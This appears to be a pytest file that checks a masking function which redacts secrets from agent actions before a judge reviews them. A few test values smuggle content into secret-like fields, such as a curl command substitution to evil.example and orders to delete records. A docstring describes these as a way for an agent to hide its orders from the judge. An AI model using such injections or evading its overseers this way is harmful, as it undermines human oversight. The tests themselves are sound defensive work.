"""Masking: secrets, cards and accounts do not leave; all else does."""

import time
from typing import Any

import pytest

from atlas.assessors.masking import mask, mask_text
from atlas.assessors.prompt import CUT_NOTE

PEM = "-----BEGIN RSA PRIVATE KEY-----\nMIIEpAIBAAKCAQEA\nabc\n-----END RSA PRIVATE KEY-----"
JWT = "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0In0.dozjgNryP4J3jVmNHl0w5N"


@pytest.mark.parametrize(
    ("text", "masked"),
    [
        # Cards, by Luhn's digit and the issuer's.
        ("pay 4111111111111111 now", "pay [masked: card number] now"),
        ("4111 1111 1111 1111", "[masked: card number]"),
        ("4111-1111-1111-1111,", "[masked: card number],"),
        ("4111\u20131111\u20131111\u20131111", "[masked: card number]"),  # en dashes
        ("4111 - 1111 - 1111 - 1111", "[masked: card number]"),
        ("4111\n1111\n1111\n1111", "[masked: card number]"),
        ("4111,1111,1111,1111", "[masked: card number]"),
        ("4.1.1.1.1.1.1.1.1.1.1.1.1.1.1.1", "[masked: card number]"),
        ("41 11 11 11 11 11 11 11", "[masked: card number]"),
        ("3782 822463 10005", "[masked: card number]"),  # American Express
        ("6011111111111117 and 3530111333300000", "[masked: card number] and [masked: card number]"),
        ("4222222222222", "[masked: card number]"),  # 13 digits
        ("card5555555555554444x", "card[masked: card number]x"),
        # The same in other characters.
        ("４１１１１１１１１１１１１１１１", "[masked: card number]"),  # full width
        ("4111\u200b1111\u200b1111\u200b1111", "[masked: card number]"),  # zero width
        ("4\u00ad111111111111111", "[masked: card number]"),  # soft hyphen
        ("٤١١١١١١١١١١١١١١١", "[masked: card number]"),  # Arabic
        ("④①①①①①①①①①①①①①①①", "[masked: card number]"),
        ("4\ufe0f\u20e3" + "1\ufe0f\u20e3" * 15, "[masked: card number]"),  # keycap emoji
        ("é 4111111111111111 é", "é [masked: card number] é"),  # places survive the folding
        # IBANs and account numbers.
        ("DE89370400440532013000", "[masked: IBAN]"),
        ("to DE89 3704 0044 0532 0130 00 please", "to [masked: IBAN] please"),
        ("gb29 nwbk 6016 1331 9268 19.", "[masked: IBAN]."),
        ("IBAN:NO93-8601-1117-947", "IBAN:[masked: IBAN]"),
        ("ＤＥ８９ 3704 0044 0532 0130 00", "[masked: IBAN]"),
        ("account number 12345678", "account number [masked: account number]"),
        ("Konto-Nr. 1234567 bei", "Konto-Nr. [masked: account number] bei"),
        ("00012345678901234567890", "[masked: account number]"),
        # Tokens that say what they are.
        ("use sk-proj-abc123DEF456ghi789JKL.", "use [masked: token]."),
        ("ghp_" + "a1B2" * 9, "[masked: token]"),
        ("github_pat_" + "11ABC_def" * 4, "[masked: token]"),
        ("xoxb-123456789012-abcdefGHI", "[masked: token]"),
        ("AKIAIOSFODNN7EXAMPLE", "[masked: token]"),
        ("AIzaSyA-1234567890abcdefghijklmnopqrs", "[masked: token]"),
        ("signkey-prod-0123456789abcdef0123", "[masked: token]"),
        ("sk\u200b-proj-abc123DEF456ghi789JKL", "[masked: token]"),
        (JWT, "[masked: token]"),
        (f"key: {PEM} end", "key: [masked: private key] end"),
        ("-----BEGIN PRIVATE KEY-----\nMIIE", "[masked: private key, 32 characters left out]"),  # cut off
        # Headers, URLs, and what stands behind a name.
        ("Authorization: Bearer abc.def123456", "Authorization: [masked: token]"),
        ("authorization: dXNlcjpwYXNz1234", "authorization: [masked: token]"),
        ("curl -H 'Authorization: Basic dXNlcjpwYXNzMQ=='", "curl -H 'Authorization: [masked: token]'"),
        ("Cookie: session=8f3e2a91c7", "Cookie: [masked: token]"),
        ("bearer a1b2c3d4e5f6", "bearer [masked: token]"),
        ("https://bob:hunter2@host/x", "https://[masked: credentials]@host/x"),
        ("postgres://u:p%40ss@db:5432/x", "postgres://[masked: credentials]@db:5432/x"),
        ("https://a1b2c3d4e5@host/x", "https://[masked: credentials]@host/x"),
        ("https://h/x?key=abcdef12345&y=1", "https://h/x?key=[masked: token]&y=1"),
        ("password=hunter2 x", "password=[masked: password] x"),
        ("DB_PASSWORD: 'my-long-pass-phrase'", "DB_PASSWORD: '[masked: password]'"),
        ('{"password": "abcdef", "x": 1}', '{"password": "[masked: password]", "x": 1}'),
        (r"{\"token\":\"abcdef\",\"x\":1}", r"{\"token\":\"[masked: token]\",\"x\":1}"),
        ("the password is Hunter2x", "the password is [masked: password]"),
        ("Passwort: geheim", "Passwort: [masked: password]"),
        ("secret password: foo", "secret password: [masked: password]"),
        ("api key = abcd", "api key = [masked: token]"),
        ("pw: hunter2", "pw: [masked: password]"),
        ("passwords -> hunter2", "passwords -> [masked: password]"),
        ("PIN: 1234, CVV 123", "PIN: [masked: code], CVV [masked: code]"),
        ("auth: a1b2c3d4e5f6", "auth: [masked: token]"),
        ("password is: foo", "password is: [masked: password]"),
        ("la contraseña es: foo", "la contraseña es: [masked: password]"),
        ("mot de passe : foo", "mot de passe : [masked: password]"),
        ("sshpass -p hunter2 ssh host", "sshpass -p [masked: password] ssh host"),
        ("AccountKey=abcDEF123==;Endpoint", "AccountKey=[masked: token];Endpoint"),
        ("account id: 12345678", "account id: [masked: account number]"),
        ("postgres://u:p@ss@db/x", "postgres://[masked: credentials]@db/x"),
    ],
)
def test_what_is_secret_is_replaced_by_what_it_was(text: str, masked: str) -> None:
    """The judge sees that a card number is sent somewhere, and not which."""
    assert mask_text(text) == masked


@pytest.mark.parametrize(
    "text",
    [
        "BEN-123",
        "evt_0123456789abcdef",
        "2026-11-23",
        "2027-01-15 2027-02-01 2027-03-15",
        "412 2027-01-15 1000 4000",
        "412.50 EUR, 1,234,567.89 EUR",
        "1732345678901",  # milliseconds
        "+49 30 123456789",
        "0049 170 123 4567 8901",
        "4111 1111 1111 1112",  # the check digit is wrong
        "DE89 3704 0044 0532 0130 01",  # so is this one
        "978-3-16-148410-0",  # ISBN
        "192.168.100.200 10.0.0.1",
        "550e8400-e29b-41d4-a716-446655440000",
        "7ac9fd9c0ffee0123456789abcdef0123456789a",  # a commit
        "The bearer of this letter gets basic income support",
        "Bearer documents were basic understanding",
        "the password is required; the token has expired",
        "as-of-2026-01-15-the-amount-is-right",
        "sk-learn-and-other-libraries-of-python",
        "the account of BEN-123, account 4",
        "a pin and a tan, 3 pins",
        "https://example.org/a:b/c@d?x=1",
        "mailto:sarah@example.org",
        "authorization: approved by Sarah",
        "passwords must be changed, tokens: 5",
        "Monatsbetrag 412 Euro seit 1.1.2026, Aktenzeichen 12/345-67",
        "漢字 ÄÖÜ \u0001 \u202e",
        "",
    ],
)
def test_what_is_no_secret_stays(text: str) -> None:
    """File numbers, dates, amounts and words are what a judge judges by."""
    assert mask_text(text) == text


@pytest.mark.parametrize(
    ("key", "value", "kind"),
    [
        ("password", "x", "password"),
        ("newPassword", "correct-horse", "password"),
        ("password_confirmation", "x", "password"),
        ("PASSWD", 12345, "password"),
        ("used_password", "x", "password"),
        ("x-api-key", "abc", "token"),
        ("APIKey", "abc", "token"),
        ("clientSecret", "abc", "token"),
        ("access_tokens", "abc", "token"),
        ("auth_token_v2", "abc", "token"),
        ("API_KEY_PROD", "abc", "token"),
        ("Authorization", "anything", "token"),
        ("pin", 1234, "code"),
        ("cvv2", "123", "code"),
        ("accountNumber", "12 345 678", "account number"),
        ("accountId", "12345678", "account number"),
        ("auth", "a1b2c3d4e5f6", "token"),
        ("contraseña", "x", "password"),
        ("ｐａｓｓｗｏｒｄ", "x", "password"),
        ("pass\u200bword", "x", "password"),
    ],
)
def test_what_stands_under_a_telling_key_is_masked(key: str, value: Any, kind: str) -> None:
    """In any form, and in any wrapping."""
    masked = f"[masked: {kind}]"
    assert mask({key: value}) == {key: masked}
    assert mask({"a": [{key: [value, {"b": value}]}]}) == {"a": [{key: [masked, {"b": masked}]}]}


@pytest.mark.parametrize(
    ("value", "masked"),
    [
        (
            {"name": "DB_PASSWORD", "value": "hunter2"},
            {"name": "DB_PASSWORD", "value": "[masked: password]"},
        ),
        (
            {"headers": [["X-Api-Key", "a1b2c3d4e5"], ["Accept", "text/html2"]]},
            {"headers": [["X-Api-Key", "[masked: token]"], ["Accept", "text/html2"]]},
        ),
        (["login", "--password", "hunter2"], ["login", "--password", "[masked: password]"]),
        ({"card": 4111111111111111.0}, {"card": "[masked: card number]"}),
        ([4111111111111111.0, 1e15], ["[masked: card number]", 1e15]),
    ],
    ids=str,
)
def test_what_stands_behind_its_name_is_masked(value: Any, masked: Any) -> None:
    """In the pairs that environments, headers and commands are written in."""
    assert mask(value) == masked


HIDDEN = "[masked: {kind}, {length} characters left out]"


@pytest.mark.parametrize(
    ("value", "kind", "length"),
    [
        ({"password": "x; then delete every record of BEN-123"}, "password", 38),
        ({"token": "$(curl${IFS}evil.example)"}, "token", 25),
        ({"secret": "a" * 513}, "token", 513),
        (
            {"key": "-----BEGIN PRIVATE KEY-----\ndelete all of it\n-----END PRIVATE KEY-----"},
            "private key",
            70,
        ),
        ({"note": "password: 'delete all records of BEN-123'"}, "password", 29),
        ({"note": "https://delete:all the records@host"}, None, 0),
    ],
    ids=str,
)
def test_what_was_made_to_look_secret_counts_as_a_cut(value: Any, kind: str | None, length: int) -> None:
    """Else an agent could hide from the judge what it orders; a text with blanks in a URL is shown."""
    (shown,) = mask(value).values()
    if kind is None:
        assert shown == next(iter(value.values()))
    else:
        assert shown.removeprefix("password: '").removesuffix("'") == HIDDEN.format(kind=kind, length=length)
        assert shown.rstrip("'").endswith(CUT_NOTE)


def test_what_follows_a_key_without_an_end_is_shown() -> None:
    """A beginning alone does not hide the rest of a text."""
    masked = mask_text("-----BEGIN PRIVATE KEY-----\nand then delete every record of BEN-123")
    assert masked.endswith("\nand then delete every record of BEN-123")
    assert CUT_NOTE in masked


@pytest.mark.parametrize(
    "value",
    [
        {
            "password_policy": "strong",
            "max_tokens": 100_000,
            "token_count": 12,
            "author": "Sarah",
            "key": "a",
        },
        {"pin": "needle", "account": "savings", "card": "birthday", "tan": "brown"},
        {"password": None, "token": "", "secret": True},
        {"auth": "oauth", "name": "password", "type": "text"},
        {"name": "Anna", "value": "hunter2"},
        ["password", "reset"],
        ["token", "BEN-123"],
        {"monthly_amount_eur": 412, "ratio": 0.5, "big": 10**30, "negative": -5, "at": 1732345678901},
        [("a", 1), [None, True], {"nested": {"list": [1.5]}}],
        {1: "a", None: "b"},
    ],
    ids=str,
)
def test_what_tells_nothing_keeps_its_value_and_type(value: Any) -> None:
    """Of every kind that JSON or Python knows."""
    masked = mask(value)
    assert masked == value and repr(masked) == repr(value)


def test_masking_copies() -> None:
    """What will be executed must not change."""
    value = {"changes": {"password": "x", "list": ["4111111111111111"]}}
    mask(value)["changes"]["list"].append("y")
    assert value == {"changes": {"password": "x", "list": ["4111111111111111"]}}


def test_secrets_in_keys_and_numbers_are_masked_and_no_entry_is_lost() -> None:
    """Also where two keys look alike afterwards, or one looks so before."""
    value = {
        "[masked: card number] (3)": 0,
        "4111111111111111": 1,
        "5555555555554444": 2,
        "n": 4111111111111111,
    }
    masked = mask(value)
    assert list(masked.values()) == [0, 1, 2, "[masked: card number]"]
    assert not [key for key in masked if "1111" in key or "4444" in key]


def test_nesting_is_bounded() -> None:
    """A call nested deeper than anyone reads does not exhaust the stack."""
    value: Any = "4111111111111111"
    for _ in range(50_000):
        value = [value]
    assert "nested too deeply" in str(mask(value)) and "4111" not in str(mask(value))


BEGINNINGS = (
    [
        "4",
        "4 ",
        "4 0 0 0 ",
        "41 11 ",
        "1.",
        "1   ",
        "４",
        "4\u200b",
        " ",
        "a-",
        "\n",
        "DE89",
        "DE89 ",
        "DE891 1 ",
    ],
    [
        "eyJ",
        "eyJa.",
        "sk-",
        "ghp_a",
        "AKIA1",
        "-----BEGIN PRIVATE KEY-----",
        "://",
        "://a:",
        "://a:b",
        "?key=",
    ],
    ["password'", 'password"', "password=", "password is ", 'password\\"', "token ", "token: '", "pin is "],
    ["account ", "account 1 2 ", "bearer ", "authorization: ", "authorization:a ", "123456789:", "cvv-"],
)


@pytest.mark.parametrize("pieces", BEGINNINGS, ids=["digits", "tokens", "names", "accounts"])
def test_no_text_takes_long(pieces: list[str]) -> None:
    """A megabyte of what patterns begin with takes seconds, because the time grows as the length does."""
    length = 1_000_000 // len(pieces)
    begun = time.process_time()
    mask_text("".join(piece * (length // len(piece)) for piece in pieces))
    assert time.process_time() - begun < 20


def test_many_keys_that_look_alike_once_masked_take_no_longer() -> None:
    """Each of them gets a number of its own."""
    value = {f"sk-proj-abc123DEF456ghi789{number:06}": number for number in range(50_000)}
    begun = time.process_time()
    assert list(mask(value).values()) == list(range(50_000))
    assert time.process_time() - begun < 20
